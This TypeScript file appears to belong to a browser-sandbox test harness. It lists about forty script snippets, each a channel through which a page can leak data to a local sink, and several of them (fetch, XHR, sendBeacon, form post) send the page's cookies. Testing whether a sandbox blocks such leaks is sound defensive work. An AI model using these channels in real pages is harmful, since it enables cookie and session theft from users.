/** A way out of a page, as script that tries it. */
export interface Channel {
  readonly name: string;
  /**
   * Runs in the page's script with `url` (https, of the channel's own host at the sink), `host`, `data` (the cookies),
   * `tcpPort`, `udpPort` and `add(tag, properties)`; a promise is waited for.
   */
  readonly script: string;
  /** What of the sink shows that it worked; "request" unless said otherwise. */
  readonly shows?: "request" | "connection" | "name" | "datagram" | "raw";
  /** Why it cannot be seen to work in the control either; it is tried in the cage all the same. */
  readonly blind?: string;
}

const iceGathering = `
  const peer = new RTCPeerConnection({ iceServers: [server] });
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
  await new Promise((resolve) => {
    peer.onicegatheringstatechange = () => peer.iceGatheringState === "complete" && resolve();
    setTimeout(resolve, 1500);
  });`;

/** The ways by which a page may send what it knows, each to a host of its own at the sink. */
export const channels: readonly Channel[] = [
  { name: "navigation", script: `location.href = url` },
  { name: "meta-refresh", script: `add("meta", { httpEquiv: "refresh", content: "0;url=" + url })` },
  { name: "sub-frame", script: `add("iframe", { src: url })` },
  { name: "nested-frame", script: `add("iframe", { srcdoc: "<iframe src='" + url + "'></iframe>" })` },
  { name: "image", script: `add("img", { src: url })` },
  { name: "image-redirect", script: `add("img", { src: "/redirect?to=" + encodeURIComponent(url) })` },
  { name: "stylesheet", script: `add("link", { rel: "stylesheet", href: url })` },
  { name: "css-image", script: `document.body.style.backgroundImage = "url('" + url + "')"` },
  { name: "font", script: `await new FontFace("f", "url('" + url + "')").load().catch(() => 0)` },
  { name: "script", script: `add("script", { src: url })` },
  { name: "video", script: `add("video", { src: url, autoplay: true, muted: true })` },
  { name: "object", script: `add("object", { data: url })` },
  { name: "fetch", script: `await fetch(url, { mode: "no-cors", method: "POST", body: data }).catch(() => 0)` },
  { name: "fetch-plain-http", script: `location.href = url.replace("https:", "http:")` },
  { name: "xhr", script: `const x = new XMLHttpRequest(); x.open("POST", url); x.send(data)` },
  {
    name: "websocket",
    script: `await new Promise((resolve) => { new WebSocket(url.replace("https", "wss")).onclose = resolve })`,
  },
  { name: "event-source", script: `new EventSource(url).onerror = (event) => event.target.close()` },
  { name: "beacon", script: `navigator.sendBeacon(url, data)` },
  {
    name: "link-ping",
    script: `const a = add("a", { href: "#x", ping: url }); a.click()`,
  },
  {
    name: "form-post",
    script: `const form = add("form", { method: "post", action: url }); form.append(Object.assign(document.createElement("input"), { name: "d", value: data })); form.submit()`,
  },
  { name: "popup", script: `open(url)` },
  { name: "data-document", script: `add("iframe", { src: "data:text/html,<img src='" + url + "'>" })` },
  {
    name: "blob-document",
    script: `add("iframe", { src: URL.createObjectURL(new Blob(["<img src='" + url + "'>"], { type: "text/html" })) })`,
  },
  { name: "prefetch", script: `add("link", { rel: "prefetch", href: url })` },
  { name: "preload", script: `add("link", { rel: "preload", as: "image", href: url })` },
  {
    name: "speculation-prefetch",
    script: `add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [url], eagerness: "immediate" }] }) })`,
  },
  {
    name: "prerender",
    script: `add("script", { type: "speculationrules", textContent: JSON.stringify({ prerender: [{ urls: ["/prerendered?to=" + encodeURIComponent(url)], eagerness: "immediate" }] }) })`,
    blind:
      "Playwright 1.65 switches prerendering off in every page (Preload: PrerenderingDisabledByDevTools), here and in the cage",
  },
  { name: "preconnect", script: `add("link", { rel: "preconnect", href: url })`, shows: "connection" },
  { name: "dns-prefetch", script: `add("link", { rel: "dns-prefetch", href: url })`, shows: "name" },
  { name: "csp-report", script: `location.href = "/csp?to=" + encodeURIComponent(url)` },
  {
    name: "worker",
    script: `new Worker(URL.createObjectURL(new Blob(["fetch('" + url + "',{mode:'no-cors'})"])))`,
  },
  { name: "shared-worker", script: `new SharedWorker("/fetches.js?to=" + encodeURIComponent(url))` },
  {
    name: "service-worker",
    script: `await Promise.race([navigator.serviceWorker.register("/fetches.js?to=" + encodeURIComponent(url)).catch(() => 0), new Promise((resolve) => setTimeout(resolve, 500))])`,
  },
  {
    name: "webrtc-stun",
    shows: "datagram",
    script: `const server = { urls: "stun:127.0.0.1:" + udpPort };${iceGathering}`,
  },
  {
    name: "webrtc-turn",
    shows: "datagram",
    script: `const server = { urls: "turn:127.0.0.1:" + udpPort, username: "u", credential: "p" };${iceGathering}`,
  },
  {
    name: "webrtc-turn-tcp",
    shows: "raw",
    script: `const server = { urls: "turn:127.0.0.1:" + tcpPort + "?transport=tcp", username: "u", credential: "p" };${iceGathering}`,
  },
  {
    name: "webtransport",
    shows: "datagram",
    script: `await Promise.race([new WebTransport("https://127.0.0.1:" + udpPort).ready.catch(() => 0), new Promise((resolve) => setTimeout(resolve, 500))])`,
  },
];
